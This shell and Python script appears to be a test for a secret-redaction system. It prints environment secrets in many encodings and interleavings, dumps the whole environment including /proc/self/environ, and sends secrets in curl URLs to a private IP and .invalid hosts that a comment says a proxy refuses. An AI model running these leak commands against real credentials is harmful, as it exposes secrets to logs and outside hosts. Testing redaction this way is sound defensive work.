# Prints the secrets in every way that scripts do, and writes none of them into the tree.
for name in PLAIN PEM ODD LONG REGEX; do
  value=${!name}
  echo "$value"
  # Without quotes, line breaks become blanks.
  echo begin $value end
  echo "indented:"; sed 's/^/    /' <<<"$value"
  sed 's/$/\r/' <<<"$value"
  tr -d '\n' <<<"$value"; echo
  echo "error: bad key '$value'" >&2
  base64 <<<"$value"
  base64 -w 0 <<<"$value"; echo
  echo "Authorization: Basic $(printf 'user:%s' "$value" | base64 -w 0)"
  printf '%s' "$value" | base64 -w 0 | tr '+/' '-_'; echo
  printf '%q\n' "$value"
  echo "${value@Q}"
done
unset value
echo "short: <$SHORT>"
env
export -p
set
cat /proc/self/environ; echo
set -x
: "$PLAIN" "$PEM" "$ODD" "$REGEX" "$LONG"
echo "--token=$ODD" >/dev/null
set +x
bash -c 'echo "$1"' bash "$PEM"
bash -c 'no-such-program "$ODD"; exit 0'
"/no/such/$PLAIN" || true
# The proxy refuses all of these before it looks for anything.
curl --silent --max-time 10 "http://10.9.8.7/$PLAIN?token=$PLAIN" || true
curl --silent --show-error --max-time 10 "http://$PLAIN.invalid:9/x" || true
curl --silent --show-error --max-time 10 "https://$PLAIN.invalid:9/x" || true
curl --silent --max-time 10 "http://user:$PLAIN@10.9.8.7/" || true
python3 - <<'PY'
import json, os, sys, time, urllib.parse

values = {name: os.environb[name.encode()] for name in ("PLAIN", "PEM", "ODD", "LONG", "REGEX")}

def drip(where, data, size):
    for at in range(0, len(data), size):
        os.write(where, data[at : at + size])
        time.sleep(0.0005)
    os.write(where, b"\n")

for name, size in (("PLAIN", 1), ("PEM", 5), ("ODD", 1), ("REGEX", 1), ("LONG", 4095)):
    drip(1, values[name], size)
    drip(2, values[name], size + 1)
# In the middle of one stream, the other says something.
for value in values.values():
    half = len(value) // 2
    for end in (half, half, 5, len(value) - 5):
        os.write(1, value[:end])
        time.sleep(0.002)
        os.write(2, b"meanwhile\n")
        time.sleep(0.002)
        os.write(1, value[end:] + b"\n")
# And that is a secret, too.
for at in range(0, 32, 4):
    os.write(1, values["PLAIN"][at : at + 4])
    time.sleep(0.001)
    os.write(2, values["REGEX"][at : at + 4])
    time.sleep(0.001)
os.write(1, b"\n")
os.write(2, values["REGEX"][32:] + b"\n")
text = {name: value.decode() for name, value in values.items()}
print(json.dumps(dict(os.environ)))
print(json.dumps(text, ensure_ascii=False, indent=2))
print(text, file=sys.stderr)
for value in text.values():
    print("https://h/?token=" + urllib.parse.quote(value, safe=""))
    print(urllib.parse.quote(value), urllib.parse.quote_plus(value), urllib.parse.urlencode({"token": value}))
PY
python3 -c 'import os; raise SystemExit("no access with " + os.environ["PEM"])' || true
